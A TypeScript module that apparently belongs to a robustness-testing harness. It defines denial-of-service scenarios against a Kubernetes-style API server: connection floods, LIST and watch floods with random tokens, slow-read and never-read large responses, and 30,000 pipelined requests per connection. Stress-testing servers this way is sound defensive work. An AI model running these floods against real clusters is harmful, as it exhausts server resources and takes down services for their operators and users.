import { randomBytes } from 'node:crypto';
import type { TLSSocket } from 'node:tls';
import { type Attack, type ClusterSize, NARROW_NODE, NARROW_TOKEN, type Target } from '../attack.ts';
import { get, open, openMany, sleep } from '../hostile.ts';

const LAST_MS = 6000;
/** Some 80 MB of Nodes as they are. */
const LARGE: ClusterSize = { nodes: 5000, nodeBytes: 16_000 };
const INITIAL =
  '/api/v1/nodes?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&resourceVersion=0';
/** As new as can be, so that one state after the other is wanted. */
const NEWEST = '/api/v1/nodes';

export const hubQuestions: Attack = {
  name: 'hub-questions',
  victim: 'hub',
  what: 'hub: 600 connections of a caller that may see one Node, each with one LIST or watch of another Node after the other',
  run: async (target) => {
    const sockets = await openMany(target, 600);
    const ask = (name: string, isWatch: boolean): string => {
      const query = `resourceVersion=0&allowWatchBookmarks=true&fieldSelector=metadata.name%3D${name}`;
      return get(`/api/v1/nodes?${isWatch ? 'watch=1&timeoutSeconds=1&' : ''}${query}`, [], NARROW_TOKEN);
    };
    const [first] = sockets;
    first?.write(ask(NARROW_NODE, true));
    await sleep(1000);
    let asked = 1;
    await askAgain(sockets.slice(1), () => ask(`node-${asked++}`, asked % 2 === 0));
  },
};

export const hubTokens: Attack = {
  name: 'hub-tokens',
  victim: 'hub',
  what: 'hub: 300 connections, each with one LIST after the other, by another token that nobody knows each time',
  run: async (target) =>
    askAgain(await openMany(target, 300), () =>
      get('/api/v1/nodes?resourceVersion=0', [], randomBytes(32).toString('hex')),
    ),
};

export const hubWatches: Attack = {
  name: 'hub-watches',
  victim: 'hub',
  what: 'hub: 1,000 watches by one token, with their 5,000 initial events',
  run: async (target) => {
    for (let batch = 0; batch < 20; batch++)
      for (const socket of await openMany(target, 50)) {
        socket.resume();
        socket.write(get(INITIAL));
      }
    await sleep(LAST_MS);
  },
};

export const hubUnread: Attack = {
  name: 'hub-unread',
  victim: 'hub',
  cluster: LARGE,
  what: 'hub: 500 watches of 5,000 Nodes of 16 KB that never read',
  run: (target) => askAndStop(target, 500, INITIAL),
};

export const hubLists: Attack = {
  name: 'hub-lists',
  victim: 'hub',
  cluster: LARGE,
  what: 'hub: 200 LISTs of 80 MB, each of the newest state, that are read slowly',
  run: async (target) => {
    const sockets = await openMany(target, 200);
    const until = performance.now() + LAST_MS;
    for (const [at, socket] of sockets.entries()) {
      socket.pause();
      socket.write(get(NEWEST, at % 2 === 0 ? ['Accept-Encoding: gzip'] : []));
      if (at % 10 === 9) await sleep(200);
    }
    while (performance.now() < until) {
      for (const socket of sockets) socket.read();
      await sleep(200);
    }
  },
};

export const hubPipelined: Attack = {
  name: 'hub-pipelined',
  victim: 'hub',
  what: 'hub: 20 connections, each with 30,000 pipelined LISTs, no answer read',
  run: async (target) => {
    for (let count = 0; count < 20; count++) {
      const socket = await open(target);
      socket?.pause();
      socket?.write(get('/api/v1/nodes?resourceVersion=0').repeat(30_000));
    }
    await sleep(LAST_MS);
  },
};

async function askAndStop(target: Target, count: number, path: string): Promise<void> {
  for (const socket of await openMany(target, count)) {
    socket.pause();
    socket.write(get(path));
  }
  await sleep(LAST_MS);
}

/** The next request of each connection as soon as it hears of the one before. */
async function askAgain(sockets: readonly TLSSocket[], next: () => string): Promise<void> {
  for (const socket of sockets) {
    socket.on('data', () => socket.write(next()));
    socket.write(next());
  }
  await sleep(LAST_MS);
}
